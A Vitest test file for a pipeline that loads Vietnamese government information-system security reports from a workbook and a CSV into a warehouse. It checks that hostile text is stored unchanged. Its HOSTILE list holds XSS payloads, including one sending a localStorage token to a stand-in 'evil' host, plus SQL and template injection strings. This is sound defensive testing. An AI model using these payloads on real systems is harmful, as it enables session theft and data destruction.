import { describe, expect, it } from "vitest";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { runPipeline } from "../helpers/runPipeline.ts";
import { queryWarehouse } from "../helpers/queryWarehouse.ts";
import { buildWorkbook } from "../helpers/buildWorkbook.ts";
import { textFile } from "../helpers/textFile.ts";

/** Text a submission carries is data: stored exactly as typed, never interpreted, escaped or dropped. */
const HOSTILE = [
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=\"fetch('//evil/'+localStorage.token)\">",
  "Cổng <b>dịch vụ</b> công &amp; <a href=\"javascript:alert(1)\">hỗ trợ</a>",
  "'); drop table source_systems; --",
  "${process.exit(1)} {{constructor.constructor('alert(1)')()}}",
  "</td></tr></table><iframe src=//evil>",
];

describe("HTML and script in submissions stay inert text", () => {
  it("round-trips unchanged into the warehouse, from a workbook and from a CSV", async () => {
    const dir = mkdtempSync(join(tmpdir(), "capdo-html-"));
    const header = ["STT", "Tên hệ thống thông tin", "Đơn vị vận hành", "Cấp độ", "Tình trạng phê duyệt HSĐXCĐ", "Số quyết định phê duyệt", "Triển khai phương án", "Ghi chú"];
    const rows = HOSTILE.map((text, i) => [String(i + 1), text, text, "3", "Đã phê duyệt", text, "Đầy đủ", text]);
    writeFileSync(join(dir, "BM01.xlsx"), await buildWorkbook([{ name: "BM01", rows: [["Cơ quan báo cáo:", "Bộ Y tế"], ["Kỳ báo cáo:", "Tháng 8/2024"], ["Ngày báo cáo:", "15/08/2024"], header, ...rows] }]));
    writeFileSync(join(dir, "BM01.csv"), textFile([["Cơ quan báo cáo:", "Bộ Tài chính"], ["Kỳ báo cáo:", "Tháng 8/2024"], ["Ngày báo cáo:", "15/08/2024"], header, ...rows], { encoding: "utf-8-bom" }));
    const db = await runPipeline(dir);
    for (const file of ["BM01.xlsx", "BM01.csv"]) {
      const systems = await queryWarehouse(db, `select system_name, operator, decision_no, remark from systems where file = '${file}' order by "row"`);
      expect(systems, file).toEqual(HOSTILE.map((text) => ({ system_name: text, operator: text, decision_no: text, remark: text })));
    }
    const accounted = await queryWarehouse(db, "select file, rows_read, rows_loaded, rows_set_aside from source_files order by file");
    expect(accounted).toEqual([
      { file: "BM01.csv", rows_read: HOSTILE.length, rows_loaded: HOSTILE.length, rows_set_aside: 0 },
      { file: "BM01.xlsx", rows_read: HOSTILE.length, rows_loaded: HOSTILE.length, rows_set_aside: 0 },
    ]);
  });
});
